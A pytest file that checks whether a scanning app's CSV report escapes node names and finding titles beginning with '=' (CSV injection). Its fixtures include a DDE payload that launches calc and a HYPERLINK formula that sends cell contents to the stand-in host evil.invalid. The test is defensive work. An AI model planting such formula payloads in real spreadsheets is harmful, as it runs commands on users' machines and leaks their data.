"""The CSV report writes names and titles that read as formulas as text (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from nodes.models import Node
from reports.models import Report
from reports.services import report_generate
from scans.findings.imports import findings_import
from tests.findings.conftest import nuclei_file, nuclei_result  # noqa: F401 - the fixture is used below

pytestmark = pytest.mark.django_db

NODE_NAME = "=cmd|' /C calc'!A0"
TITLE = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'


def test_a_node_name_and_a_nuclei_title_that_are_formulas_reach_the_csv_as_text(world, nuclei_file, settings,
                                                                                 tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    findings_import(org=world.org, fmt="nuclei",
                    path=nuclei_file([nuclei_result("127.0.70.1", "hyperlink", name=TITLE, severity="high")]))
    Node.objects.filter(org=world.org, address="127.0.70.1").update(name=NODE_NAME)
    report = Report.objects.create(org=world.org, kind="organization", format="csv", trigger=Report.Trigger.CONSOLE)

    report = report_generate(report_id=report.pk)

    with report.file.open("rb") as fh:
        rows = list(csv.DictReader(io.StringIO(fh.read().decode())))
    assert len(rows) == 1
    assert rows[0]["node_name"] == "'" + NODE_NAME
    assert rows[0]["title"] == "'" + TITLE
    assert rows[0]["node_address"] == "127.0.70.1" and rows[0]["port"] == "80"
